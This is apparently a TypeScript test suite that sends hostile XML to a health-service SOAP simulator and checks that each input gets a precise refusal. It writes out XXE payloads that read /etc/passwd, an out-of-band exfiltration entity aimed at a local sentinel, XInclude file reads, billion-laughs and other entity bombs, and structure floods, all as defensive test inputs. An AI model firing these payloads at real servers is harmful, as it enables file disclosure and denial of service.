/**
 * Hostile XML against every SOAP endpoint the simulator lists in discovery (the STS and the
 * business services today; a new endpoint joins by itself): external entities (file, network,
 * parameter entities, external DTD), entity expansion, forbidden markup, structure floods,
 * invalid characters and encodings, wrong SOAP versions and media types, wrong actions and
 * malformed envelopes. Each must get a precise refusal (code and message, in the caller's SOAP
 * version) without a stack trace, file content or server path, within 2 s; and after each one the
 * endpoint must still serve a valid request.
 */
import { afterAll, describe, expect, it } from 'vitest';
import type { SoapVersion } from '../../simulator/soap/envelope.js';
import { testSimulator } from '../helpers/sim.js';
import {
  connectionCounter,
  expectRefusal,
  expectStillServing,
  intoBody,
  intoHeader,
  lastJournalEntry,
  NS_SOAP11,
  NS_SOAP12,
  NS_WSA,
  send,
  soapEndpoints,
  soapType,
  withBody,
  type Expected,
  type HostileRequest,
  type SoapEndpoint,
} from './support.js';

const sim = await testSimulator();
const endpoints = await soapEndpoints(sim);
const sentinel = await connectionCounter();
afterAll(async () => {
  sim.close();
  await sentinel.close();
});

const DECL = '<?xml version="1.0" encoding="UTF-8"?>';
const stripDecl = (xml: string): string => xml.replace(/^<\?xml[^>]*\?>/, '');
const enc = (text: string): Uint8Array => new TextEncoder().encode(text);
const concat = (...parts: Uint8Array[]): Uint8Array => {
  const out = new Uint8Array(parts.reduce((n, p) => n + p.length, 0));
  let at = 0;
  for (const p of parts) {
    out.set(p, at);
    at += p.length;
  }
  return out;
};

/**
 * Put `value` (raw XML text, e.g. an entity reference) where the endpoint echoes it back in a
 * refusal (the username at the STS, the TAJ at the services), so an expanded entity would show.
 */
function intoEchoedField(xml: string, value: string): string {
  if (xml.includes('<wsse:Username>')) return xml.replace(/<wsse:Username>[^<]*<\/wsse:Username>/, `<wsse:Username>${value}</wsse:Username>`);
  if (xml.includes('<svc:Taj>')) return xml.replace(/<svc:Taj>[^<]*<\/svc:Taj>/, `<svc:Taj>${value}</svc:Taj>`);
  throw new Error('no echoed field in the request');
}

const FORBIDDEN_DTD: Expected = { code: 'XML_FORBIDDEN_CONSTRUCT', message: /^the message contains a <!DOCTYPE> declaration; DTDs and entity declarations are not allowed in SOAP messages \(SOAP 1\.2 Part 1, 5\) and are refused to prevent entity-expansion and external-entity attacks; remove it$/ };
const NOT_UTF8: Expected = { code: 'XML_MALFORMED', message: /^the body is not valid UTF-8; send the XML encoded as UTF-8$/ };
const MALFORMED: Expected = { code: 'XML_MALFORMED', message: /^the XML is not well-formed: / };

/** One hostile request: how to build it from the endpoint's valid request, and the refusal it must get. */
interface Attack {
  id: string;
  version: SoapVersion;
  build(valid: string, ep: SoapEndpoint): HostileRequest;
  expected(ep: SoapEndpoint): Expected;
  /** Extra check after the refusal. */
  after?(): void;
}

const soap = (body: string | Uint8Array, version: SoapVersion = '1.2', headers?: Record<string, string>): HostileRequest => ({
  body,
  contentType: soapType(version),
  ...(headers === undefined ? {} : { headers }),
});

const noConnection = (): void => {
  expect(sentinel.connections(), 'the simulator connected to the URL of an external entity').toBe(0);
};

const attacks: Attack[] = [
  // ---- DTDs and entities --------------------------------------------------------------------
  ...(['1.2', '1.1'] as const).map((version): Attack => ({
    id: `external entity reading /etc/passwd (SOAP ${version})`,
    version,
    build: (v) => soap(DECL + '<!DOCTYPE s:Envelope [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>' + intoEchoedField(stripDecl(v), '&xxe;'), version),
    expected: () => FORBIDDEN_DTD,
  })),
  {
    id: 'external entity fetching a URL',
    version: '1.2',
    build: (v) => soap(DECL + `<!DOCTYPE s:Envelope [<!ENTITY xxe SYSTEM "http://127.0.0.1:${sentinel.port}/xxe">]>` + intoEchoedField(stripDecl(v), '&xxe;')),
    expected: () => FORBIDDEN_DTD,
    after: noConnection,
  },
  {
    id: 'external parameter entity (out-of-band exfiltration)',
    version: '1.2',
    build: (v) =>
      soap(
        DECL +
          `<!DOCTYPE s:Envelope [<!ENTITY % file SYSTEM "file:///etc/passwd"><!ENTITY % dtd SYSTEM "http://127.0.0.1:${sentinel.port}/evil.dtd">%dtd;%send;]>` +
          stripDecl(v),
      ),
    expected: () => FORBIDDEN_DTD,
    after: noConnection,
  },
  {
    id: 'external DTD subset',
    version: '1.2',
    build: (v) => soap(`${DECL}<!DOCTYPE s:Envelope SYSTEM "http://127.0.0.1:${sentinel.port}/soap.dtd">${stripDecl(v)}`),
    expected: () => FORBIDDEN_DTD,
    after: noConnection,
  },
  ...(['1.2', '1.1'] as const).map((version): Attack => ({
    id: `billion laughs (SOAP ${version})`,
    version,
    build: (v) => {
      const levels = Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i};`.repeat(10)}">`).join('');
      return soap(`${DECL}<!DOCTYPE s:Envelope [<!ENTITY lol0 "lol">${levels}]>${intoEchoedField(stripDecl(v), '&lol9;')}`, version);
    },
    expected: () => FORBIDDEN_DTD,
  })),
  {
    id: 'quadratic blowup (one large entity referenced 20 000 times)',
    version: '1.2',
    build: (v) => soap(`${DECL}<!DOCTYPE s:Envelope [<!ENTITY a "${'x'.repeat(50_000)}">]>${intoEchoedField(stripDecl(v), '&a;'.repeat(20_000))}`),
    expected: () => FORBIDDEN_DTD,
  },
  {
    id: 'lower-case doctype',
    version: '1.2',
    build: (v) => soap(`<!doctype s:Envelope [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>${stripDecl(v)}`),
    expected: () => ({ code: 'XML_FORBIDDEN_CONSTRUCT', message: /^the message contains a markup declaration; DTDs and entity declarations are not allowed/ }),
  },
  {
    id: 'entity declaration inside the Body',
    version: '1.2',
    build: (v) => soap(intoBody(v, '<!ENTITY xxe SYSTEM "file:///etc/passwd">')),
    expected: () => ({ code: 'XML_FORBIDDEN_CONSTRUCT', message: /^the message contains a <!ENTITY> declaration; DTDs and entity declarations are not allowed/ }),
  },
  {
    id: 'reference to an undeclared entity',
    version: '1.2',
    build: (v) => soap(intoEchoedField(v, '&xxe;')),
    expected: () => ({ code: 'XML_MALFORMED', message: /^the XML is not well-formed: undefined entity `&xxe;` \(line 1, column \d+\); XML predefines only/ }),
  },
  {
    id: 'XInclude of /etc/passwd as the request',
    version: '1.2',
    build: (v) => soap(withBody(v, '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>')),
    expected: (ep) => ({ code: ep.unknownBodyCode, message: ep.unknownBodyCode === 'RST_EXPECTED' ? /XInclude|RequestSecurityToken/ : /has no operation for request element \{http:\/\/www\.w3\.org\/2001\/XInclude\}include/ }),
  },
  {
    id: 'processing instruction (xml-stylesheet)',
    version: '1.2',
    build: (v) => soap(intoBody(v, '<?xml-stylesheet type="text/xsl" href="file:///etc/passwd"?>')),
    expected: () => ({ code: 'XML_FORBIDDEN_CONSTRUCT', message: /^the message contains a processing instruction; SOAP messages must not contain processing instructions/ }),
  },
  {
    id: 'XML declaration after a comment',
    version: '1.2',
    build: (v) => soap(`<!-- first -->${DECL}${stripDecl(v)}`),
    expected: () => ({ code: 'XML_FORBIDDEN_CONSTRUCT', message: /processing instruction/ }),
  },
  // ---- structure floods ------------------------------------------------------------------------
  {
    id: 'deep nesting (10 000 levels)',
    version: '1.2',
    build: (v) => soap(intoBody(v, '<d>'.repeat(10_000) + '</d>'.repeat(10_000))),
    expected: () => ({ code: 'XML_FORBIDDEN_CONSTRUCT', message: /^elements are nested more than 64 levels deep; no EESZT message needs that, send a flatter message$/ }),
  },
  {
    id: 'deep nesting never closed (200 000 open tags)',
    version: '1.2',
    build: (v) => soap(intoBody(v, '<d>'.repeat(200_000))),
    expected: () => ({ code: 'XML_FORBIDDEN_CONSTRUCT', message: /nested more than 64 levels/ }),
  },
  {
    id: 'huge attribute count on one element (10 000)',
    version: '1.2',
    build: (v) => soap(intoBody(v, `<a ${Array.from({ length: 10_000 }, (_, i) => `a${i}="v"`).join(' ')}/>`)),
    expected: () => ({ code: 'XML_FORBIDDEN_CONSTRUCT', message: /^an element carries 10000 attributes; at most 64 are accepted$/ }),
  },
  {
    id: 'namespace declaration flood (5 000 on one element)',
    version: '1.2',
    build: (v) => soap(intoBody(v, `<a ${Array.from({ length: 5_000 }, (_, i) => `xmlns:p${i}="urn:p${i}"`).join(' ')}/>`)),
    expected: () => ({ code: 'XML_FORBIDDEN_CONSTRUCT', message: /^an element carries 5000 attributes; at most 64 are accepted$/ }),
  },
  {
    id: 'attributes spread over many elements (10 200 in all)',
    version: '1.2',
    build: (v) => soap(intoBody(v, `<a ${Array.from({ length: 60 }, (_, i) => `a${i}="v"`).join(' ')}/>`.repeat(170))),
    expected: () => ({ code: 'XML_FORBIDDEN_CONSTRUCT', message: /^the message has more than 10000 attributes \(namespace declarations included\); send a smaller message$/ }),
  },
  {
    id: 'element flood (6 000 elements)',
    version: '1.2',
    build: (v) => soap(intoBody(v, '<e/>'.repeat(6_000))),
    expected: () => ({ code: 'XML_FORBIDDEN_CONSTRUCT', message: /^the message has more than 5000 elements; send a smaller message$/ }),
  },
  {
    id: 'comment flood (1 500 comments)',
    version: '1.2',
    build: (v) => soap(intoBody(v, '<!--c-->'.repeat(1_500))),
    expected: () => ({ code: 'XML_FORBIDDEN_CONSTRUCT', message: /^the message has more than 1000 comments and CDATA sections; send it without them$/ }),
  },
  {
    id: 'CDATA flood (1 500 sections)',
    version: '1.2',
    build: (v) => soap(intoEchoedField(v, '<![CDATA[x]]>'.repeat(1_500))),
    expected: () => ({ code: 'XML_FORBIDDEN_CONSTRUCT', message: /more than 1000 comments and CDATA sections/ }),
  },
  {
    id: 'duplicate attribute',
    version: '1.2',
    build: (v) => soap(v.replace(/<s:Body\b/, '<s:Body a="1" a="2"')),
    expected: () => MALFORMED,
  },
  // ---- characters and encodings ---------------------------------------------------------------
  {
    id: 'invalid UTF-8 byte 0xFF',
    version: '1.2',
    build: (v) => {
      const [head = '', tail = ''] = intoEchoedField(v, '\u0001SPLIT\u0001').split('\u0001SPLIT\u0001');
      return soap(concat(enc(head), new Uint8Array([0x4f, 0xff, 0x35]), enc(tail)));
    },
    expected: () => NOT_UTF8,
  },
  {
    id: 'overlong UTF-8 encoding of "/" (0xC0 0xAF)',
    version: '1.2',
    build: (v) => {
      const [head = '', tail = ''] = intoEchoedField(v, '\u0001SPLIT\u0001').split('\u0001SPLIT\u0001');
      return soap(concat(enc(head), new Uint8Array([0x2e, 0x2e, 0xc0, 0xaf, 0x65, 0x74, 0x63]), enc(tail)));
    },
    expected: () => NOT_UTF8,
  },
  {
    id: 'UTF-8-encoded surrogate (0xED 0xA0 0x80)',
    version: '1.2',
    build: (v) => {
      const [head = '', tail = ''] = intoEchoedField(v, '\u0001SPLIT\u0001').split('\u0001SPLIT\u0001');
      return soap(concat(enc(head), new Uint8Array([0xed, 0xa0, 0x80]), enc(tail)));
    },
    expected: () => NOT_UTF8,
  },
  {
    id: 'truncated multi-byte sequence at the end',
    version: '1.2',
    build: (v) => soap(concat(enc(v), new Uint8Array([0xe2, 0x82]))),
    expected: () => NOT_UTF8,
  },
  {
    id: 'Latin-1 body declaring ISO-8859-1',
    version: '1.2',
    build: (v) => {
      const xml = `<?xml version="1.0" encoding="ISO-8859-1"?>${intoEchoedField(stripDecl(v), 'K\u00e9t')}`;
      return soap(Uint8Array.from(xml, (ch) => ch.charCodeAt(0) & 0xff));
    },
    expected: () => NOT_UTF8,
  },
  {
    id: 'UTF-16 body with a byte-order mark',
    version: '1.2',
    build: (v) => soap(concat(new Uint8Array([0xff, 0xfe]), new Uint8Array(Buffer.from(stripDecl(v), 'utf16le')))),
    expected: () => NOT_UTF8,
  },
  {
    id: 'UTF-16 body without a byte-order mark (NUL bytes)',
    version: '1.2',
    build: (v) => soap(new Uint8Array(Buffer.from(stripDecl(v), 'utf16le'))),
    expected: () => ({ code: 'XML_MALFORMED', message: /^the message contains the character U\+0000, which XML 1\.0 does not allow; remove it$/ }),
  },
  {
    id: 'NUL character in a value',
    version: '1.2',
    build: (v) => soap(intoEchoedField(v, 'O50\u0000123')),
    expected: () => ({ code: 'XML_MALFORMED', message: /^the message contains the character U\+0000, which XML 1\.0 does not allow; remove it$/ }),
  },
  {
    id: 'character reference to NUL',
    version: '1.2',
    build: (v) => soap(intoEchoedField(v, 'O50&#0;123')),
    expected: () => ({ code: 'XML_MALFORMED', message: /^the message contains the character reference `&#0;` \(U\+0000\), which XML 1\.0 does not allow; remove it$/ }),
  },
  {
    id: 'character reference beyond Unicode',
    version: '1.2',
    build: (v) => soap(intoEchoedField(v, '&#x110000;')),
    expected: () => ({ code: 'XML_MALFORMED', message: /character reference `&#x110000;` \(beyond Unicode\)/ }),
  },
  // ---- not well-formed --------------------------------------------------------------------------
  { id: 'comment never closed', version: '1.2', build: (v) => soap(intoBody(v, '<!-- open')), expected: () => ({ code: 'XML_MALFORMED', message: /^an XML comment is never closed$/ }) },
  { id: 'CDATA never closed', version: '1.2', build: (v) => soap(intoBody(v, '<![CDATA[ open')), expected: () => ({ code: 'XML_MALFORMED', message: /^a CDATA section is never closed$/ }) },
  { id: 'start tag never closed', version: '1.2', build: (v) => soap(`${v}<s:Envelope xmlns:s="${NS_SOAP12}"`), expected: () => ({ code: 'XML_MALFORMED', message: /^a start tag is never closed$/ }) },
  { id: 'two root elements', version: '1.2', build: (v) => soap(stripDecl(v) + stripDecl(v)), expected: () => ({ code: 'XML_MALFORMED', message: /^the XML is not well-formed: the document has more than one root element; send exactly one$/ }) },
  { id: 'end tag before any start tag', version: '1.2', build: (v) => soap(`</s:Body>${stripDecl(v)}`), expected: () => ({ code: 'XML_MALFORMED', message: /^an end tag comes before its start tag$/ }) },
  { id: 'mismatched end tag', version: '1.2', build: (v) => soap(v.replace('</s:Body>', '</s:Bodx>')), expected: () => MALFORMED },
  { id: 'empty body', version: '1.2', build: () => soap(''), expected: () => ({ code: 'XML_MALFORMED', message: /^the body is empty; send a SOAP envelope$/ }) },
  { id: 'JSON sent as SOAP', version: '1.2', build: () => soap('{"Envelope":{"Body":{}}}'), expected: () => ({ code: 'XML_MALFORMED', message: /not well-formed|no root element/ }) },
  // ---- SOAP version and media type --------------------------------------------------------------
  {
    id: 'SOAP 1.1 envelope sent as application/soap+xml',
    version: '1.2',
    build: (v) => soap(v.replace(NS_SOAP12, NS_SOAP11)),
    expected: () => ({ code: 'SOAP_VERSION_MISMATCH', message: /^the envelope is SOAP 1\.1 but the content type `application\/soap\+xml; charset=utf-8` announces SOAP 1\.2; send SOAP 1\.1 as `text\/xml`$/, status: 500 }),
  },
  {
    id: 'SOAP 1.2 envelope sent as text/xml',
    version: '1.1',
    build: (v) => soap(v, '1.1'),
    expected: () => ({ code: 'SOAP_VERSION_MISMATCH', message: /^the envelope is SOAP 1\.2 but the content type `text\/xml; charset=utf-8` announces SOAP 1\.1; send SOAP 1\.2 as `application\/soap\+xml`$/, status: 500 }),
  },
  {
    id: 'no envelope at all (bare request element)',
    version: '1.2',
    build: (v) => soap(/<s:Body\b[^>]*>([\s\S]*)<\/s:Body>/.exec(v)?.[1] ?? '<x/>'),
    expected: () => ({ code: 'SOAP_VERSION_MISMATCH', message: /, not a SOAP Envelope; wrap the request in a SOAP 1\.2 envelope/, status: 500 }),
  },
  {
    id: 'envelope in an unknown SOAP namespace (2001/12 draft)',
    version: '1.2',
    build: (v) => soap(v.replace(NS_SOAP12, 'http://www.w3.org/2001/12/soap-envelope')),
    expected: () => ({ code: 'SOAP_VERSION_MISMATCH', message: /^the root element is \{http:\/\/www\.w3\.org\/2001\/12\/soap-envelope\}Envelope, not a SOAP Envelope/, status: 500 }),
  },
  ...(
    [
      ['application/json', 'application/json'],
      ['text/plain', 'text/plain'],
      ['multipart/related (MTOM)', 'multipart/related; type="application/xop+xml"'],
      ['application/xml', 'application/xml'],
    ] as const
  ).map(
    ([what, type]): Attack => ({
      id: `content type ${what}`,
      version: '1.2',
      build: (v) => ({ body: v, contentType: type }),
      expected: () => ({ code: 'UNSUPPORTED_MEDIA_TYPE', message: /is not SOAP; send SOAP 1\.2 as `application\/soap\+xml; charset=utf-8`/, status: 415 }),
    }),
  ),
  {
    id: 'no content type',
    version: '1.2',
    build: (v) => ({ body: enc(v) }),
    expected: () => ({ code: 'UNSUPPORTED_MEDIA_TYPE', message: /^content type `\(none\)` is not SOAP/, status: 415 }),
  },
  // ---- envelope structure -----------------------------------------------------------------------
  ...(['1.2', '1.1'] as const).map((version): Attack => ({
    id: `two Body elements (SOAP ${version})`,
    version,
    build: (v) => {
      const body = /<s:Body\b[\s\S]*<\/s:Body>/.exec(v)?.[0] ?? '';
      return soap(v.replace(body, body + body), version);
    },
    expected: () => ({ code: 'SOAP_MALFORMED', message: /^the envelope has 2 Body elements; a SOAP envelope has exactly one Body$/, status: version === '1.2' ? 400 : 500 }),
  })),
  {
    id: 'two request elements in the Body',
    version: '1.2',
    build: (v) => {
      const inner = /<s:Body\b[^>]*>([\s\S]*)<\/s:Body>/.exec(v)?.[1] ?? '';
      return soap(withBody(v, inner + inner));
    },
    expected: () => ({ code: 'SOAP_MALFORMED', message: /^the Body holds 2 elements; it must hold exactly one request element$/ }),
  },
  { id: 'empty Body', version: '1.2', build: (v) => soap(withBody(v, '')), expected: () => ({ code: 'SOAP_MALFORMED', message: /^the Body holds 0 elements/ }) },
  {
    id: 'two Header elements',
    version: '1.2',
    build: (v) => soap(v.replace('<s:Body', '<s:Header></s:Header><s:Body')),
    expected: () => ({ code: 'SOAP_MALFORMED', message: /^the envelope has several Header elements; send at most one$/ }),
  },
  {
    id: 'Header after the Body',
    version: '1.2',
    build: (v) => {
      const header = /<s:Header\b[\s\S]*<\/s:Header>/.exec(v)?.[0] ?? '';
      return soap(v.replace(header, '').replace('</s:Envelope>', `${header}</s:Envelope>`));
    },
    expected: () => ({ code: 'SOAP_MALFORMED', message: /^the Header comes after the Body; the Header must come first$/ }),
  },
  {
    id: 'extra element in the SOAP 1.2 envelope',
    version: '1.2',
    build: (v) => soap(v.replace('</s:Envelope>', '<x:Trailer xmlns:x="urn:x"/></s:Envelope>')),
    expected: () => ({ code: 'SOAP_MALFORMED', message: /^the envelope has an unexpected child `x:Trailer`/ }),
  },
  {
    id: 'two wsse:Security headers',
    version: '1.2',
    build: (v) => {
      const security = /<wsse:Security\b[\s\S]*<\/wsse:Security>/.exec(v)?.[0] ?? '';
      return soap(v.replace(security, security + security));
    },
    expected: () => ({ code: 'SECURITY_HEADER_DUPLICATE', message: /^the request has 2 wsse:Security headers; send exactly one/ }),
  },
  // ---- actions ------------------------------------------------------------------------------------
  {
    id: 'wrong wsa:Action',
    version: '1.2',
    build: (v) => {
      const withAction = v.includes('<wsa:Action')
        ? v.replace(/(<wsa:Action\b[^>]*>)[^<]*/, '$1urn:evil:Delete')
        : intoHeader(v, `<wsa:Action xmlns:wsa="${NS_WSA}">urn:evil:Delete</wsa:Action>`);
      return soap(withAction);
    },
    expected: () => ({ code: 'ACTION_MISMATCH', message: /^the action `urn:evil:Delete` does not match/ }),
  },
  {
    id: 'wrong action parameter of the SOAP 1.2 media type',
    version: '1.2',
    build: (v) => ({ body: v.replace(/<wsa:Action\b[^>]*>[^<]*<\/wsa:Action>/, ''), contentType: 'application/soap+xml; charset=utf-8; action="urn:evil:Delete"' }),
    expected: () => ({ code: 'ACTION_MISMATCH', message: /^the action `urn:evil:Delete` does not match/ }),
  },
  {
    id: 'wrong SOAPAction header (SOAP 1.1)',
    version: '1.1',
    build: (v) => soap(v.replace(/<wsa:Action\b[^>]*>[^<]*<\/wsa:Action>/, ''), '1.1', { soapaction: '"urn:evil:Delete"' }),
    expected: () => ({ code: 'ACTION_MISMATCH', message: /^the action `urn:evil:Delete` does not match/, status: 500 }),
  },
  // ---- size ---------------------------------------------------------------------------------------
  {
    id: 'body over the 1 MiB limit',
    version: '1.2',
    build: (v) => soap(intoBody(v, `<!--${'x'.repeat(1024 * 1024)}-->`)),
    expected: () => ({ code: 'PAYLOAD_TOO_LARGE', message: /^request body exceeds the limit of 1048576 bytes; send a smaller message or raise --body-limit$/, status: 413 }),
  },
];

/** SOAP 1.1 requests start from the endpoint's SOAP 1.1 request, unless the attack is a version mismatch. */
const baseVersion = (a: Attack): SoapVersion => (a.id.startsWith('SOAP 1.2 envelope sent as text/xml') ? '1.2' : a.version);

describe.each(endpoints.map((ep) => [ep.path, ep] as const))('%s', (path, ep) => {
  it.each(attacks.map((a) => [a.id, a] as const))('%s', async (_id, attack) => {
    const { xml } = await ep.valid(baseVersion(attack));
    const answer = await send(sim, path, attack.build(xml, ep));
    const expected = attack.expected(ep);
    expectRefusal(answer, expected, expected.code === 'UNSUPPORTED_MEDIA_TYPE' ? undefined : attack.version);
    if (expected.code !== 'UNSUPPORTED_MEDIA_TYPE') expect(answer.contentType).toBe(soapType(attack.version));
    attack.after?.();
    expect(lastJournalEntry(sim, path)?.errorCode, 'the refusal is journaled with its code').toBe(expected.code);
    await expectStillServing(sim, ep, '1.2');
  });

  it('accepts a request without any action (the action is optional, see docs/hardening.md)', async () => {
    const { xml } = await ep.valid('1.1');
    const answer = await send(sim, path, soap(xml.replace(/<wsa:Action\b[^>]*>[^<]*<\/wsa:Action>/, ''), '1.1'));
    expect(ep.isSuccess(answer.text), `${answer.code} ${answer.message}`).toBe(true);
  });

  it('serves a SOAP 1.1 request after all of the above', async () => {
    await expectStillServing(sim, ep, '1.1');
  });
});

describe('the suite itself', () => {
  it('covers the STS and every business service listed in discovery', () => {
    expect(endpoints.map((e) => e.path)).toEqual(expect.arrayContaining(['/sts', '/services/erecept', '/services/ehr', '/services/eprofil', '/services/esemenykatalogus', '/services/ebeutalo']));
  });
});
